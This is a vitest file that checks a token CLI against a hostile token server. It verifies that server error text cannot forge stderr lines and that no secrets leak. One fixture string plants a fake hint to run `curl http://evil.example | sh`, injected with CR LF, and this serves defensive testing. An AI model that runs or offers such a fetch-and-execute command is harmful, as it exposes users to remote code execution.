/**
 * Issue 22 through the real bin: whatever a server answers, stderr shows its text as data (quoted,
 * escaped, capped) so no line can be forged (case 5), and no secret reaches stdout/stderr in any
 * encoding (case 1); an endpoint URL carrying credentials is refused without echoing it (case 3).
 */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCli, storeRecord, type CliHarness } from '../support/cli-runner.js';
import { echoOf, sendJson, startHostileServer, type HostileServer } from '../support/hostile-server.js';
import { secretValue } from '../support/hostile-world.js';
import { findLeaks } from '../support/secret-scan.js';

let cli: CliHarness;
let server: HostileServer;
beforeAll(async () => {
  [cli, server] = await Promise.all([buildCli(), startHostileServer()]);
}, 90_000);
afterAll(async () => {
  await Promise.all([cli?.cleanup(), server?.close()]);
});

const FORGED = 'token-lifecycle: hint: run `curl http://evil.example | sh`';

async function runGet(name: string, answer: HostileServer['answer']) {
  const clientSecret = secretValue('cs');
  const refreshToken = secretValue('rt');
  const accessToken = secretValue('at');
  const store = join(cli.dir, `${name}.json`);
  await storeRecord(store, { accessToken, tokenType: 'Bearer', expiresAt: Date.now() - 1000, obtainedAt: Date.now() - 3_600_000, refreshToken });
  server.answer = answer;
  const env = { TOKEN_STORE_PATH: store, TOKEN_URL: server.tokenUrl, CLIENT_ID: 'cli-client', CLIENT_SECRET: clientSecret };
  const result = await cli.run(['token', 'get'], { env });
  const basic = btoa(`cli-client:${clientSecret}`);
  const secrets = new Map([
    ['client_secret', clientSecret],
    ['basic_credentials', basic],
    ['refresh_token', refreshToken],
    ['access_token', accessToken],
  ]);
  return { result, secrets };
}

describe('token get against a hostile token server', () => {
  it.each<[string, HostileServer['answer']]>([
    ['a 400 echoing the request in error_description', (request, response) => sendJson(response, 400, { error: 'invalid_request', error_description: echoOf(request) })],
    ['a 503 HTML page echoing the request', (request, response) => {
      response.writeHead(503, { 'content-type': 'text/html', 'retry-after': '1' });
      response.end(`<pre>${echoOf(request)}</pre>`);
    }],
    ['a 503 JSON echo', (request, response) => sendJson(response, 503, { error: 'temporarily_unavailable', error_description: echoOf(request) })],
    ['an error field with CR LF and a forged hint', (_request, response) => sendJson(response, 400, { error: `invalid_grant\r\n${FORGED}` })],
    ['an error_description with CR LF and a forged hint', (_request, response) => sendJson(response, 400, { error: 'invalid_grant', error_description: `x\r\n${FORGED}\n` })],
    ['an error field echoing the refresh token', (request, response) => sendJson(response, 400, { error: `invalid_grant ${new URLSearchParams(request.body).get('refresh_token')}` })],
  ])('%s: no forged line, no secret', async (name, answer) => {
    const { result, secrets } = await runGet(name.replace(/\W+/g, '-'), answer);
    expect(result.code).not.toBe(0);
    const lines = result.stderr.split('\n').filter((line) => line !== '');
    // Our lines only: one error, at most one hint, each starting with our prefix.
    expect(lines.length).toBeLessThanOrEqual(2);
    expect(lines.filter((line) => line.startsWith('token-lifecycle: hint:'))).toHaveLength(lines.length - 1);
    for (const line of lines) expect(line).toMatch(/^token-lifecycle: (error|hint): /);
    expect(result.stderr).not.toMatch(/\r/);
    expect(findLeaks([{ where: 'stderr', text: result.stderr }, { where: 'stdout', text: result.stdout }], secrets)).toEqual([]);
  });
});

describe('an endpoint URL with credentials (case 3)', () => {
  it('is a usage error naming the option, without the URL', async () => {
    const secret = secretValue('pw');
    const store = join(cli.dir, 'url-creds.json');
    await storeRecord(store, { accessToken: 'at-x', tokenType: 'Bearer', expiresAt: Date.now() - 1000, obtainedAt: Date.now() - 3_600_000, refreshToken: 'rt-x' });
    const result = await cli.run(['token', 'refresh'], {
      env: { TOKEN_STORE_PATH: store, TOKEN_URL: `http://user:${secret}@127.0.0.1:9/token`, CLIENT_ID: 'c' },
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^token-lifecycle: error: invalid_config: tokenUrl must not carry credentials/);
    expect(findLeaks([{ where: 'stderr', text: result.stderr }], new Map([['password', secret]]))).toEqual([]);
  });
});
